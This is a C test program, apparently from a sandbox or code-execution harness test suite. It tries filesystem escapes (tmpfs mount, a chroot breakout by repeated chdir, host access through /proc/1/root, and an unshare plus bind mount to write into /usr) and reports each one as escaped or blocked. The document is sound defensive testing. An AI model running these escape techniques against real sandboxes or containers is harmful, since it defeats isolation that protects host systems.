// attack: mount in the sandbox's own mount namespace, chroot escape, /proc/1/root, unshare user+mount namespaces
// verdict: ok
// limits: time_s=1 wall_s=2 memory_mb=64
// rlimits_needs_root: true
// check: no_new_mounts
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *hostdir;

static void host_visible(const char *prefix) {
    char p[8192];
    snprintf(p, sizeof p, "%s%s/secret.txt", prefix, hostdir);
    if (access(p, F_OK) == 0) printf("ESCAPED: host file visible at %s\n", p);
}

int main(int argc, char **argv) {
    const char *token = argc > 1 ? argv[1] : "x";
    hostdir = argc > 3 ? argv[3] : "/nonexistent";
    char cwd[4096], mnt[8192];
    if (!getcwd(cwd, sizeof cwd)) return 1;
    snprintf(mnt, sizeof mnt, "%s/codegym-hostile-%s-mnt", cwd, token);
    mkdir(mnt, 0755);
    if (mount("none", mnt, "tmpfs", 0, NULL) == 0) {
        printf("ESCAPED: mounted a tmpfs without creating a namespace\n");
        umount2(mnt, MNT_DETACH);
    } else printf("blocked: mount: %s\n", strerror(errno));
    int root = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot(".") == 0) {
        for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
        if (chroot(".") != 0) {}
        host_visible("");
        printf("ESCAPED: chroot permitted without a namespace\n");
        if (root >= 0 && fchdir(root) == 0 && chroot(".") == 0) {}
    } else printf("blocked: chroot: %s\n", strerror(errno));
    host_visible("/proc/1/root");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
        printf("unshare(user|mount) allowed\n");
        mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
        if (mount("/", mnt, NULL, MS_BIND | MS_REC, NULL) == 0) {
            host_visible(mnt);
            char p[8300];
            snprintf(p, sizeof p, "%s/usr/codegym-hostile-%s", mnt, token);
            int fd = open(p, O_WRONLY | O_CREAT, 0644);
            if (fd >= 0) { printf("ESCAPED: wrote /usr through a bind mount\n"); close(fd); }
            else printf("blocked: write via bind mount: %s\n", strerror(errno));
        }
    } else printf("blocked: unshare: %s\n", strerror(errno));
    host_visible("");
    printf("done\n");
    return 0;
}
